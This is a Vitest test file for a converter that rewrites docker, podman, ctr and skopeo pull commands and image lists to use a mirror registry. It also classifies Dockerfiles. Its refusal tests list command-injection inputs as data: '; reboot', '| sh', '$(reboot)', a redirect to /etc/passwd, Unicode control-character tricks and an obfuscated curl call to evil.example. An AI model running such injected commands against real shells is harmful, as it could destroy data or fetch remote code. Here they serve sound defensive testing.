// Commands that pull, lists of them and of names, and what a text is taken for.
import { describe, expect, it } from "vitest";
import { convert, LONGEST } from "../../../src/page/convert/convert.ts";
import { UNIVERSAL } from "./offers.ts";

const inFull = (text: string): string => text.replaceAll("M/", "mirror.example.com/");

describe("a command that pulls", () => {
  it.each([
    ["docker pull nginx", "docker pull M/nginx"],
    ["$ docker pull nginx:1", "docker pull M/nginx:1"],
    ["$  sudo docker pull nginx", "sudo docker pull M/nginx"],
    ["docker image pull -q ghcr.io/a/b", "docker image pull -q M/ghcr.io/a/b"],
    ["docker pull --platform linux/arm64 nginx", "docker pull --platform linux/arm64 M/nginx"],
    ["docker pull --platform=linux/arm64 -a nginx", "docker pull --platform=linux/arm64 -a M/nginx"],
    ["docker pull nginx --platform linux/arm64", "docker pull M/nginx --platform linux/arm64"],
    ["docker --context=away pull nginx", "docker --context=away pull M/nginx"],
    ["docker\tpull \t nginx", "docker\tpull \t M/nginx"],
    ["podman pull --tls-verify=false nginx redis", "podman pull --tls-verify=false M/nginx M/redis"],
    ["nerdctl -n k8s.io pull nginx", "nerdctl -n k8s.io pull M/nginx"],
    ["nerdctl --namespace=k8s.io image pull nginx", "nerdctl --namespace=k8s.io image pull M/nginx"],
    ["crictl pull registry.k8s.io/pause:3.10", "crictl pull M/registry.k8s.io/pause:3.10"],
    ["crictl pull --creds=a:b docker.io/library/nginx", "crictl pull --creds=a:b M/library/nginx"],
    [
      "ctr images pull --hosts-dir /etc/certs docker.io/library/redis:7",
      "ctr images pull --hosts-dir /etc/certs M/library/redis:7",
    ],
    ["ctr images pull docker.io/library/redis:7", "ctr images pull M/library/redis:7"],
    [
      "ctr -n k8s.io i pull --all-platforms ghcr.io/a/b:1",
      "ctr -n k8s.io i pull --all-platforms M/ghcr.io/a/b:1",
    ],
    ["skopeo copy docker://nginx dir:nginx", "skopeo copy docker://M/nginx dir:nginx"],
    [
      "skopeo copy --all docker://a/b docker://ghcr.io/a/b",
      "skopeo copy --all docker://M/a/b docker://ghcr.io/a/b",
    ],
    ["skopeo inspect --raw docker://ghcr.io/a/b:1", "skopeo inspect --raw docker://M/ghcr.io/a/b:1"],
    ["docker pull docker", "docker pull M/docker"],
    ["docker pull pull", "docker pull M/pull"],
  ])("%s", (from, to) => {
    for (const around of ["", "\n", "\r\n", "  "]) {
      const { kind, text, left } = convert(around + from + around, UNIVERSAL);
      expect({ kind, text, left }).toEqual({ kind: "command", text: inFull(to), left: [] });
    }
  });

  it.each(["docker pull quay.io/a/b", "podman pull mirror.example.com/nginx"])("is left: %s", (text) => {
    expect(convert(text, UNIVERSAL)).toMatchObject({ kind: "command", text, rewritten: [], left: [{}] });
  });

  it.each([
    "docker pull nginx; reboot",
    "docker pull nginx && reboot",
    "docker pull nginx | sh",
    "docker pull nginx & reboot",
    "docker pull nginx > /etc/passwd",
    "docker pull nginx < x",
    "docker pull $(reboot)",
    "docker pull nginx:`reboot`",
    "docker pull nginx:$TAG",
    'docker pull "nginx"',
    "docker pull 'nginx'",
    "docker pull nginx # why",
    "docker pull nginx \\",
    "docker pull \\\n  nginx",
    "docker pull nginx\rreboot",
    "docker pull nginx\u2028reboot",
    "docker pull nginx\u00a0x",
    "docker pull ng\u202einx",
    "docker pull nginx\u0000",
    "docker pull nginx\u001b[2J",
    "docker pull nginx {a,b}",
    "docker pull nginx *",
    "docker pull nginx !x",
    "docker pull nginx ~",
    "docker -H $(reboot) pull nginx",
    "docker pull --platform $(reboot) nginx",
    "docker pull --platform=`reboot` nginx",
    "docker pull --unknown nginx",
    "docker --context away pull nginx",
    "podman pull --arch arm64 nginx",
    "skopeo --debug copy docker://nginx dir:x",
    "docker pull nginx: ; reboot",
    "$ docker pull nginx: ; reboot",
    "docker pull -aq nginx",
    "docker pull",
    "docker pull -q",
    "skopeo copy dir:x docker://nginx",
    "skopeo inspect oci:x",
    `docker pull nginx ${"a ".repeat(3000)}`,
    "docker pull nginx\nreboot now",
    "docker pull nginx\ndocker pull redis; reboot",
    "nginx\ndocker pull redis; reboot",
    "docker pull nginx\ndocker run redis",
    "docker pull nginx\n# a; reboot",
    "docker pull nginx\n$SHELL",
    "docker pull nginx\n${BASH%bash}curl${IFS%??}evil.example",
    "docker pull nginx\nevil.sh/x",
    "docker pull nginx\nredis",
    "nginx\ndocker pull redis",
  ])("is refused: %s", (text) => {
    const result = convert(text, UNIVERSAL);
    expect(result).toMatchObject({ kind: "command", text: "", rewritten: [], refused: "not-one-command" });
    expect(result.left).toMatchObject([{ reason: "syntax" }]);
  });

  it("has no text where an image in it is none", () => {
    expect(convert("docker pull https://ghcr.io/a/b", UNIVERSAL)).toMatchObject({
      kind: "command",
      text: "",
      left: [{ image: "https://ghcr.io/a/b", reason: "invalid" }],
    });
    expect(convert("docker pull nginx\ndocker pull -x", UNIVERSAL).text).toBe("");
    expect(convert("docker pull nginx\ndocker pull Redis", UNIVERSAL).text).toBe("");
  });
});

describe("a list", () => {
  it("of commands comes out a line each, without prompts", () => {
    const text = "$ docker pull nginx\r\n\r\n$ podman pull quay.io/a/b\r\nsudo docker pull redis\n";
    expect(convert(text, UNIVERSAL)).toEqual({
      kind: "command",
      text: inFull("docker pull M/nginx\n\npodman pull quay.io/a/b\nsudo docker pull M/redis"),
      rewritten: [
        { line: 1, from: "nginx", to: inFull("M/nginx") },
        { line: 4, from: "redis", to: inFull("M/redis") },
      ],
      left: [{ line: 3, image: "quay.io/a/b", reason: "not-served", registry: "quay.io" }],
    });
  });

  it("of names may have comments", () => {
    const { kind, text } = convert("# of ours:\nnginx\n\nghcr.io/a/b:1\n# v1.2\n", UNIVERSAL);
    expect({ kind, text }).toEqual({
      kind: "image",
      text: inFull("# of ours:\nM/nginx\n\nM/ghcr.io/a/b:1\n# v1.2"),
    });
  });

  it("is not handed on with something in it that is no name", () => {
    for (const bad of ["https://ghcr.io/a/b", "x;reboot", "ng\u202einx"]) {
      const { kind, text, left } = convert(`nginx\n${bad}\nredis`, UNIVERSAL);
      expect({ kind, text }).toEqual({ kind: "image", text: "" });
      expect(left).toMatchObject([{ line: 2, image: bad }]);
    }
  });
});

describe("what a text is", () => {
  it.each([
    ["FROM nginx", "dockerfile"],
    ["\uFEFF\r\n# syntax=docker/dockerfile:1\r\n\r\n  from nginx", "dockerfile"],
    ["# a\nARG A=1\nFROM nginx", "dockerfile"],
    ["nginx", "image"],
    ["\uFEFFnginx", "image"],
    ["", undefined],
    [" \n\t\n", undefined],
    ["# a comment", undefined],
    ["hello world", undefined],
    ["hello\nbig world", undefined],
    ["docker run nginx", undefined],
    ["docker build -t x .", undefined],
    ["sudo nginx", undefined],
    ["$ nginx", undefined],
    ["docker", "image"],
    ["reboot; docker pull nginx", undefined],
    ["FROMAGE x", undefined],
  ])("%j: %s", (text, kind) => {
    const result = convert(text, UNIVERSAL);
    expect(result.kind).toBe(kind);
    expect(result.refused).toBeUndefined();
    if (kind === undefined) expect(result).toEqual({ kind, text: "", rewritten: [], left: [] });
  });

  it("is not looked at where it is too long", () => {
    const text = "FROM nginx\n";
    expect(convert(text.padEnd(LONGEST, "\n"), UNIVERSAL).kind).toBe("dockerfile");
    expect(convert(text.padEnd(LONGEST + 1, "\n"), UNIVERSAL)).toEqual({
      kind: undefined,
      text: "",
      rewritten: [],
      left: [],
      refused: "too-long",
    });
  });
});
